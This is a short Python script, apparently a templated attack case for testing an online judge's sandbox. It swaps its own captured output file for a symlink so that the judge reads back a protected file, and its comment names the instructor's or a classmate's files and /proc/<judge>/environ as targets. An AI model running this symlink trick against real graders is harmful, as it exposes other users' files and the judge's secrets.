# attack: the judge reads back the captured output by its path in the scratch folder, so put a link
# there to a file only the judge can read (@SECRET@: the instructor's, a classmate's, /proc/<judge>/environ)
import os

_link = os.path.basename(os.readlink("/proc/self/fd/1"))
if os.path.dirname(os.readlink("/proc/self/fd/1")) == os.getcwd():
    os.remove(_link)
    os.symlink("@SECRET@", _link)
print("OUTPUT-REPLACED @MARK@")
